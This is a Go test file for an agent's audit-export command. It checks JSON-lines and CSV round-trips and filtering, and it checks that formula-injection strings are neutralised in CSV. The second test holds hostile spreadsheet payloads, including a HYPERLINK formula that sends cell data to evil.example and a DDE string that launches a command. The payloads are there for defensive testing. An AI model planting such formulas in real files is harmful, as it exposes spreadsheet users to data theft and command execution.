package auditexport

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"path/filepath"
	"reflect"
	"testing"
	"time"

	"github.com/rtcagent/rtcagent/internal/protocol"
	"github.com/rtcagent/rtcagent/internal/store"
	"github.com/rtcagent/rtcagent/internal/store/sqlitestore"
)

// The export of `rtcagent audit export` reads back as the records in the store,
// as JSON lines and as CSV, filtered by user and time, across pages.
func TestExportRoundTrips(t *testing.T) {
	ctx := context.Background()
	file := filepath.Join(t.TempDir(), "rtcagent.db")
	st, err := sqlitestore.Open(ctx, file, sqlitestore.Options{})
	if err != nil {
		t.Fatal(err)
	}
	base := time.Now().UTC().Add(-2 * time.Hour).Truncate(time.Millisecond)
	n := pageSize + 7 // more than one page
	err = st.Write(ctx, func(tx store.Tx) error {
		for i := 0; i < n; i++ {
			created := base.Add(time.Duration(i) * time.Second)
			end := created.Add(time.Second)
			a := &protocol.AuditRecord{RTCID: fmt.Sprintf("r%04d", i), UserID: []string{"alice", "bob"}[i%2], SessionID: "S", TurnID: "T",
				DeviceID: "d-1", ToolName: "write", ToolCallID: "call_1", Arguments: json.RawMessage(`{"path":"/a, \"quoted\"\nline"}`),
				WorkMode: "manual", NeedsConfirmation: true, Status: protocol.RTCCompleted, Output: json.RawMessage(`"ok"`),
				CreatedAt: created, DeliveredAt: &created, EndedAt: &end,
				Decision:  protocol.AuditDecision{Outcome: protocol.DecisionAllowed, By: protocol.DecidedByUser, DeviceID: "d-1", At: &end, Scope: "once"},
				Execution: &protocol.RTCExecution{StartedAt: created, EndedAt: end, Outcome: "ok"}}
			if i%3 == 0 {
				a.Status, a.Output, a.Error, a.Execution = protocol.RTCRejected, nil, "no, thanks", nil
				a.Decision = protocol.AuditDecision{Outcome: protocol.DecisionDenied, By: protocol.DecidedByUser, DeviceID: "d-1", At: &end, Reason: "no, thanks"}
			}
			// The record is its call's row: the RTC with the record's state.
			r := &protocol.RTC{ID: a.RTCID, UserID: a.UserID, SessionID: a.SessionID, TurnID: a.TurnID, Seq: i, ToolName: a.ToolName,
				ToolCallID: a.ToolCallID, Arguments: a.Arguments, Status: a.Status, Output: a.Output, Error: a.Error,
				CreatedAt: a.CreatedAt, Audit: a.State()}
			if err := tx.RTCInsert(r); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	var alice []protocol.AuditRecord
	_ = st.Read(ctx, func(tx store.Tx) error {
		alice, err = tx.AuditList(store.AuditQuery{UserID: "alice", Limit: 10 * n})
		return err
	})
	st.Close()
	if len(alice) != (n+1)/2 {
		t.Fatalf("%d records of alice", len(alice))
	}

	run := func(args ...string) []byte {
		t.Helper()
		var out, errOut bytes.Buffer
		if code := Main(append([]string{"export", "-data", file}, args...), &out, &errOut); code != 0 {
			t.Fatalf("exit %d: %s", code, errOut.String())
		}
		return out.Bytes()
	}
	var got []protocol.AuditRecord
	sc := bufio.NewScanner(bytes.NewReader(run("-user", "alice", "-format", "jsonl")))
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		var a protocol.AuditRecord
		if err := json.Unmarshal(sc.Bytes(), &a); err != nil {
			t.Fatal(err)
		}
		got = append(got, a)
	}
	if !reflect.DeepEqual(got, alice) {
		t.Fatalf("jsonl: %d records back, differing from the store's %d", len(got), len(alice))
	}

	rows, err := csv.NewReader(bytes.NewReader(run("-user", "alice", "-format", "csv"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(rows[0], Columns) || len(rows) != len(alice)+1 {
		t.Fatalf("csv: %d rows, header %v", len(rows), rows[0])
	}
	for i, a := range alice {
		if !reflect.DeepEqual(rows[i+1], row(&a)) {
			t.Fatalf("csv row %d: %v, want %v", i, rows[i+1], row(&a))
		}
		var args map[string]string
		if err := json.Unmarshal([]byte(rows[i+1][8]), &args); err != nil || args["path"] != "/a, \"quoted\"\nline" {
			t.Fatalf("arguments cell %q: %v", rows[i+1][8], err)
		}
	}

	// -since: the last 10 minutes of records are none; an RFC 3339 time cuts in the middle.
	if out := run("-since", "10m"); len(out) != 0 {
		t.Fatalf("since 10m: %s", out)
	}
	cut := base.Add(time.Duration(n-4) * time.Second).Format(time.RFC3339)
	if lines := bytes.Count(run("-since", cut), []byte("\n")); lines != 4 {
		t.Fatalf("since %s: %d records, want 4", cut, lines)
	}
	var errOut bytes.Buffer
	if code := Main([]string{"export", "-data", file, "-format", "xml"}, &bytes.Buffer{}, &errOut); code != 2 {
		t.Fatalf("bad format: exit %d", code)
	}
}

// A denial reason, an error or a tool name that starts like a formula is
// exported as text: a spreadsheet opening the CSV evaluates none of them.
func TestExportCSVHasNoFormulas(t *testing.T) {
	ctx := context.Background()
	file := filepath.Join(t.TempDir(), "rtcagent.db")
	st, err := sqlitestore.Open(ctx, file, sqlitestore.Options{})
	if err != nil {
		t.Fatal(err)
	}
	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1", "\r=1"}
	err = st.Write(ctx, func(tx store.Tx) error {
		for i, h := range hostile {
			now := time.Now().UTC()
			a := &protocol.AuditRecord{RTCID: fmt.Sprintf("r%d", i), UserID: "alice", SessionID: "S", TurnID: "T", ToolName: h,
				Arguments: json.RawMessage(`{}`), Status: protocol.RTCRejected, Error: h, CreatedAt: now,
				Decision: protocol.AuditDecision{Outcome: protocol.DecisionDenied, By: protocol.DecidedByUser, At: &now, Reason: h}}
			// The record is its call's row: the RTC with the record's state.
			r := &protocol.RTC{ID: a.RTCID, UserID: a.UserID, SessionID: a.SessionID, TurnID: a.TurnID, Seq: i, ToolName: a.ToolName,
				ToolCallID: a.ToolCallID, Arguments: a.Arguments, Status: a.Status, Output: a.Output, Error: a.Error,
				CreatedAt: a.CreatedAt, Audit: a.State()}
			if err := tx.RTCInsert(r); err != nil {
				return err
			}
		}
		return nil
	})
	st.Close()
	if err != nil {
		t.Fatal(err)
	}
	var out, errOut bytes.Buffer
	if code := Main([]string{"export", "-data", file, "-format", "csv"}, &out, &errOut); code != 0 {
		t.Fatalf("exit %d: %s", code, errOut.String())
	}
	rows, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(hostile)+1 {
		t.Fatalf("%d rows", len(rows))
	}
	for _, r := range rows[1:] {
		for j, cell := range r {
			if cell != "" && (cell[0] == '=' || cell[0] == '+' || cell[0] == '-' || cell[0] == '@' || cell[0] == '\t' || cell[0] == '\r') {
				t.Errorf("column %s is a live formula: %q", Columns[j], cell)
			}
		}
		if want := "'" + hostile[indexOf(r[0])]; r[20] != want {
			t.Errorf("error cell %q, want %q (the text kept, made inert)", r[20], want)
		}
	}
}

func indexOf(rtcID string) int {
	var i int
	fmt.Sscanf(rtcID, "r%d", &i)
	return i
}
